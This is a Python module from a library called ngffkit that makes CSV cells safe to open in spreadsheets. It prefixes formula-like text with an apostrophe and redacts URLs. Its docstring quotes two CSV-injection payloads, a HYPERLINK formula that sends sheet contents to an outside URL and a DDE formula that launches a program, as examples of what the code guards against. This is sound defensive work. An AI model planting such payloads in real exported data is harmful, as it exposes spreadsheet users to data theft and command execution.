"""Cells of the CSV files ngffkit writes, made safe to open in a spreadsheet.

Image names, channel labels and folder names are strangers' text. A cell that starts with ``=``, ``+``, ``-``,
``@``, a tab or a carriage return is a formula to Excel, LibreOffice and Google Sheets
(``=HYPERLINK("http://..."&A1,"click")`` sends the sheet's contents away; ``+cmd|' /C calc'!A0`` runs a program
through DDE). Such text cells are written with a leading apostrophe, which spreadsheets show as text (OWASP's
advice for CSV injection). Numbers stay numbers -- an ``int``, a ``float``, or text that is one, such as
``-1.5`` -- and JSON output keeps every value exact. URLs in cells are redacted (:func:`ngffkit.errors.redact`):
tables get published, and a password or a signed URL's signature must not travel with them.
"""

from __future__ import annotations

import math
from typing import Any

from ngffkit.errors import redact

#: What makes a spreadsheet read a cell as a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _is_number(text: str) -> bool:
    try:
        return math.isfinite(float(text))
    except ValueError:
        return False


def safe_cell(value: Any) -> Any:
    """``value`` as a CSV cell that no spreadsheet runs (formula-like text gets a leading apostrophe) and that
    holds no secret."""
    if not isinstance(value, str):
        return value
    value = redact(value)
    if value.startswith(FORMULA_STARTS) and not _is_number(value):
        return "'" + value
    return value


def safe_row(row: dict[str, Any]) -> dict[str, Any]:
    return {name: safe_cell(value) for name, value in row.items()}
